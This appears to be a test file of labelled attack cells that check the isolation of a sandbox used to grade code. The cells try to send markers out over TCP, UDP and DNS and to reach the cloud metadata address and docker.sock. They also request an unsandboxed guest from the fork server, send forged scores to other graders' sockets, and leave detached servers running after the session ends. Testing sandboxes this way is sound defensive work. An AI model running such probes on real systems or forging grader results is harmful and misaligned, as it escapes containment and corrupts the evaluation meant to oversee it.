# %% [markdown]
# # Sockets
# `@port@` is a TCP and a UDP port, `@socket@` a unix socket, `\0@marker@` an abstract one; the test listens at each.

# %% attack="tcp" tries="send what it knows over TCP, to this machine, its cloud's metadata and the internet"
import socket
import subprocess
import urllib.request

for address in (("127.0.0.1", int("@port@")), ("::1", int("@port@")), ("169.254.169.254", 80), ("1.1.1.1", 443), ("10.0.0.1", 22)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"@marker@")
            print("sent", address)
    except OSError as error:
        print(error)
for address in ("http://127.0.0.1:@port@/@marker@", "https://pypi.org"):
    try:
        print(urllib.request.urlopen(address, timeout=1).read())
    except OSError as error:
        print(error)
print(subprocess.run("curl -m 1 http://127.0.0.1:@port@; wget -T 1 -t 1 http://127.0.0.1:@port@", shell=True))

# %% attack="udp" tries="send what it knows over UDP"
import socket

for address in (("127.0.0.1", int("@port@")), ("255.255.255.255", int("@port@")), ("224.0.0.1", int("@port@")), ("8.8.8.8", 53)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(b"@marker@", address)
            print("sent", address)
        except OSError as error:
            print(error)

# %% attack="dns" tries="send what it knows as the name of a host"
import socket

for name in ("@marker@.example.com", "localhost", "pypi.org"):
    try:
        print("resolved", name, socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)

# %% attack="unix_sockets" tries="talk to servers of this machine through unix sockets, with and without a path"
import os
import socket

places = ["@socket@", "\0@marker@", "/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/tmp/.X11-unix/X0"]
places += [line.split()[-1].replace("@", "\0") for line in open("/proc/net/unix") if len(line.split()) == 8]
for place in places:
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.settimeout(1)
            client.connect(place)
            client.sendall(b"@marker@")
            print("sent", place)
        except OSError as error:
            print(place, error)

# %% attack="raw_sockets" tries="open sockets of rarer kinds"
import socket

for family in ("AF_INET", "AF_INET6", "AF_PACKET", "AF_NETLINK", "AF_VSOCK", "AF_BLUETOOTH", "AF_CAN", "AF_ALG", "AF_TIPC"):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            client = socket.socket(getattr(socket, family), kind)
            if family == "AF_VSOCK":
                client.connect((2, int("@port@")))
            client.send(b"@marker@")
        except (AttributeError, OSError, TypeError, ValueError) as error:
            print(family, error)

# %% attack="fork_server" tries="ask the fork server for a guest outside of its own sandbox"
import glob
import json
import re
import socket

places = set(glob.glob("@tmp@/gradus-*/socket")) | set(glob.glob("/tmp/gradus-*/socket"))
places |= {f"{folder}/socket" for folder in re.findall(r"/\S*gradus-[^/\s]+", open("/proc/self/mountinfo").read())}
wish = {"folder": "/tmp", "scratch": "/", "arguments": [], "environment": {}, "seconds": 9, "is_sandboxed": False}
for place in places:
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.settimeout(1)
            client.connect(place)
            client.sendall(json.dumps(wish).encode() + b"\n")
            print("forked", place, client.recv(100))
        except OSError as error:
            print(place, error)

# %% attack="other_guests" tries="find the sockets of other guests and of their graders, and speak for them"
import glob
import json
import os
import socket
import time

own = os.path.dirname(os.getcwd())
end = time.monotonic() + 1.5
while time.monotonic() < end:
    found = {*glob.glob(f"{own}/../*/*"), *glob.glob("@tmp@/*/*/grader"), *glob.glob("/proc/*/cwd/../*"), *glob.glob("/tmp/gradus-*/*/*")}
    for place in found:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(place)
                text = json.dumps({"number": 0, "ended": "ok", "value": 39, "sizes": []}).encode()
                client.sendall(len(text).to_bytes(4, "big") + text + bytes(4))
                print("spoke to", place)
            except OSError:
                continue

# %% attack="servers" tries="leave servers that listen when it is gone"
import os
import socket

servers = []
for family, address in ((socket.AF_INET, ("0.0.0.0", int("@free@"))), (socket.AF_UNIX, "\0@marker@-server"), (socket.AF_UNIX, "/tmp/@marker@")):
    try:
        server = socket.socket(family)
        server.bind(address)
        server.listen()
        servers.append(server)
    except OSError as error:
        print(error)
if os.fork() == 0:
    os.setsid()
    while True:
        servers[0].accept()[0].sendall(b"still here")
